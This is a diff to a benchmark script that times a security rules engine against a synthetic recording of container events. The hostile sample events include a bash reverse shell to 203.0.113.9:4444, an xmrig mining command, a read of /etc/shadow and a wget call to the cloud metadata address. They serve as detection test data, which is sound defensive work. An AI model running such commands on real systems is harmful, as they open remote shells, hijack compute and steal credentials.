@@ -32,7 +32,7 @@ def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
     """A deterministic recording with a realistic mix (written once, committed)."""
     from tests.rules_events import ev, read, run, write  # the same builders the tests use
 
-    rng = random.Random(seed)
+    rng = random.Random(seed)  # noqa: S311 - a reproducible mix, not a secret
     benign = [
         lambda: run("/usr/sbin/nginx -g daemon off;", parent="/usr/bin/tini"),
         lambda: run("/bin/sh -c /usr/local/bin/healthcheck", parent="/usr/bin/containerd-shim"),
@@ -48,7 +48,9 @@ def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
         lambda: ev("connect", exe="/usr/bin/python3", ip="10.0.3.9", port=6379),
         lambda: ev("connect", exe="/usr/bin/python3", ip="52.94.236.248", port=443),
         lambda: ev("accept", exe="/usr/sbin/nginx", ip="10.0.9.1", port=52000),
-        lambda: ev("dns", exe="/usr/bin/python3", dns="db.shop.svc.cluster.local", ip="10.96.0.10", port=53),
+        lambda: ev(
+            "dns", exe="/usr/bin/python3", dns="db.shop.svc.cluster.local", ip="10.96.0.10", port=53
+        ),
         lambda: ev("exit", exe="/usr/local/bin/healthcheck"),
         lambda: ev("fork", exe="/usr/sbin/nginx"),
         lambda: ev("unlink", path="/tmp/uwsgi.sock.lock", exe="/usr/bin/python3"),
@@ -56,7 +58,9 @@ def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
     ]
     weights = [8, 6, 6, 4, 3, 10, 12, 4, 5, 5, 10, 6, 4, 5, 4, 3, 3, 1, 1]
     hostile = [
-        lambda: run("/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="/usr/sbin/nginx"),
+        lambda: run(
+            "/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="/usr/sbin/nginx"
+        ),
         lambda: run("/opt/xmrig -o stratum+tcp://pool.example:3333"),
         lambda: read("/etc/shadow", exe="/bin/cat"),
         lambda: ev("connect", exe="/usr/bin/wget", ip="169.254.169.254", port=80),
@@ -92,6 +96,7 @@ def main() -> int:
     engine = RuleEngine(compiled.rules)
     detector = RulesDetector(engine)  # no dedup: every match is formatted
     candidates = sum(engine.candidates(e.type) for e in events) / len(events)
+    offered = sum(engine.offered(e) for e in events) / len(events)
     matches = sum(len(detector.observe(e)) for e in events)
     processed = 0
     # CPU time of this thread: the machine is shared, and time spent descheduled is not the
@@ -110,11 +115,13 @@ def main() -> int:
         by_type[e.type] = by_type.get(e.type, 0) + 1
     lines = [
         "rules throughput — whole built-in pack, one core",
-        f"python {platform.python_version()} on {platform.machine()}, {os.cpu_count()} cpus (pinned to 1)",
+        f"python {platform.python_version()} on {platform.machine()}, "
+        f"{os.cpu_count()} cpus (pinned to 1)",
         f"rules: {len(compiled.rules)} (compiled in {compile_s:.2f}s)",
         f"recording: {args.events.name}, {len(events)} events, "
         + ", ".join(f"{t.value} {n}" for t, n in sorted(by_type.items(), key=lambda kv: -kv[1])),
-        f"rules offered per event (type index): {candidates:.1f} of {len(compiled.rules)}",
+        f"rules per event: {candidates:.1f} of {len(compiled.rules)} after the event-type index, "
+        f"{offered:.1f} after the value index (proc.name, fd.name, …)",
         f"matches per pass: {matches} ({matches / len(events):.1%} of events)",
         f"throughput: {rate:,.0f} events/s per CPU-second ({processed:,} events, {cpu:.2f}s CPU, "
         f"{elapsed:.2f}s wall = {wall_rate:,.0f} events/s wall on a shared machine, "
